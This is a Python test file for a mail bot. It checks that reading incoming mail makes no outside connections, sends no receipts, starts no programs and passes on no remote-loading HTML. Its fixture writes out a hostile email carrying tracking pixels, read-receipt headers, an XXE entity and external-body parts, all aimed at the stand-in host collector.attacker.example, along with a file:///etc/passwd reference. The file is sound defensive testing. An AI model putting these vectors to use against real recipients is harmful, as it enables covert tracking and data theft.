"""Promise 13: received content causes no lookup, connection, receipt or rendered page."""

from __future__ import annotations

import re
from pathlib import Path

from promises.conftest import MakeScene
from promises.evidence import DAY, EVENING, letters, mail
from support.facade import MailServers
from support.installation import PROGRAM

from mailbot.demo.servers import EmbeddedServers

HOST = "collector.attacker.example"
URL = f"https://{HOST}/pixel.gif?id=1"
PAGE = f"""<html><head><base href="{URL}"><link rel=stylesheet href="{URL}">
<meta http-equiv=refresh content="0;url={URL}">
<style>@import url({URL}); p {{ background: url({URL}) }}</style></head><body background="{URL}"><p>Please help</p>
<img src="{URL}"><img src="cid:a" srcset="{URL} 2x"><iframe src="{URL}"></iframe><object data="{URL}"></object>
<video src="{URL}" autoplay></video><form action="{URL}"><input></form><script src="{URL}"></script>
<svg><image href="{URL}"/></svg><a href="{URL}" ping="{URL}">{URL}</a></body></html>"""
FIELDS = [
    "Disposition-Notification-To: spy@attacker.example",
    "Return-Receipt-To: spy@attacker.example",
    "X-Confirm-Reading-To: spy@attacker.example",
    f"X-Face-URL: {URL}",
    f"Face: {URL}",
    f"Autocrypt: addr=kim@example.com; keydata={URL}",
    f"OpenPGP: url={URL}",
    f"DKIM-Signature: v=1; a=rsa-sha256; d={HOST}; s=key; h=from; bh=x; b=y",
]
PARTS = [
    ("text/html", PAGE),
    (f'message/external-body; access-type=URL; URL="{URL}"', "Content-Type: text/plain\r\n\r\n"),
    (f"message/external-body; access-type=anon-ftp; site={HOST}; name=a", "Content-Type: text/plain\r\n\r\n"),
    ('message/partial; number=1; total=2; id="a@b"', "Subject: half\r\n\r\nhalf"),
    ("text/calendar; method=REQUEST", f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nURL:{URL}\r\nEND:VCALENDAR"),
    ("text/vcard", f"BEGIN:VCARD\r\nPHOTO;VALUE=uri:{URL}\r\nEND:VCARD"),
    ("application/pkcs7-mime", f"CRL {URL}"),
    ("application/xml", f'<!DOCTYPE a [<!ENTITY b SYSTEM "{URL}">]><a>&b;</a>'),
    ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/></svg>'),
    ("text/plain", f"Look at {URL} and file:///etc/passwd"),
]


def calls_home(author: str) -> bytes:
    """A mail that asks for connections in every way we know of."""
    raw = mail(author, fields=FIELDS).replace(b"text/plain; charset=utf-8", b"multipart/mixed; boundary=x")
    parts = "".join(f"--x\r\nContent-Type: {kind}\r\n\r\n{body}\r\n" for kind, body in PARTS)
    return raw.partition(b"\r\n\r\n")[0] + f"\r\n\r\n{parts}--x--\r\n".encode()


def connections(trace: Path) -> set[str]:
    """Where the program and its children connected to, or sent datagrams. A look-up of a name would show as a datagram;
    glibc asks its own cache's socket first, for users too, and finds none.
    """
    found = set()
    for line in trace.read_text(errors="replace").splitlines():
        if "/nscd/" in line:
            continue
        if re.search(r"\b(connect|sendto|sendmsg|sendmmsg)\(", line) and "sa_family=AF_" in line:
            port = re.search(r"htons\((\d+)\)", line)
            address = re.search(r'inet_addr\("([^"]+)"\)|sun_path="([^"]+)"|inet_pton\(AF_INET6, "([^"]+)"', line)
            found.add(f"{next(filter(None, address.groups())) if address else '?'}:{port[1] if port else '-'}")
    return found


def test_reading_connects_to_nothing_but_the_two_mail_servers(
    scene: MakeScene, servers: MailServers, strace: str, tmp_path: Path
) -> None:
    here, trace = scene(servers), tmp_path / "trace"
    here.write(calls_home("kim@example.com"), mail("lee@example.com").replace(b"text/plain", b"text/html"))
    here.house.at = EVENING
    options = ["-f", "-s", "300", "-e", "trace=network", "-o", str(trace)]
    here.house.run("run", "--once", program=[strace, *options, *PROGRAM])
    assert connections(trace) == {f"127.0.0.1:{servers.imap_port}", f"127.0.0.1:{servers.smtp_port}"}
    assert sorted(one.rcpt_to[0] for one in here.outside()) == ["kim@example.com", "lee@example.com"]


def test_the_child_that_reads_starts_no_program(
    scene: MakeScene, embedded: EmbeddedServers, strace: str, tmp_path: Path
) -> None:
    here, trace = scene(embedded), tmp_path / "trace"
    here.write(calls_home("kim@example.com"))
    here.house.at = DAY
    options = ["-f", "-e", "trace=execve", "-o", str(trace)]
    here.house.run("run", "--once", program=[strace, *options, *PROGRAM])
    started = re.findall(r'execve\("[^"]*/([^"/]+)", \[(.*?)\].* = 0', trace.read_text())
    assert [name for name, _ in started if not name.startswith(("mailbot", "python"))] == []
    assert len(started) <= 2, "the program, and the child that reads"


def test_what_staff_get_holds_no_page_of_the_sender_and_fetches_nothing(
    scene: MakeScene, embedded: EmbeddedServers
) -> None:
    here = scene(embedded)
    here.write(calls_home("kim@example.com"))
    here.once(DAY)
    (notice,) = here.staff("dana")
    assert "Please help" in letters([notice])
    kinds = [part.get_content_type() for part in notice.walk() if not part.is_multipart()]
    assert kinds == ["text/plain", "text/html"], "no part of the received mail is passed on"
    page = notice.get_body(("html",)).get_content()  # type: ignore[union-attr]
    for loading in (
        r"<img",
        r"\bsrc\s*=",
        r"url\(",
        r"@import",
        r"<link",
        r"<script",
        r"<iframe",
        r"<form",
        r"<base",
        r"srcset",
    ):
        assert not re.search(loading, page, re.IGNORECASE), loading
    linked = re.findall(r'href\s*=\s*"([^"]*)"', page)
    assert all(target.startswith(("mailto:", "tel:", "https:", "http:")) for target in linked)
    assert not any(HOST in target for target in linked), "a received address became a link to click"
    assert not [one for one in embedded.sent if "attacker" in one.rcpt_to[0]], "a receipt was sent"
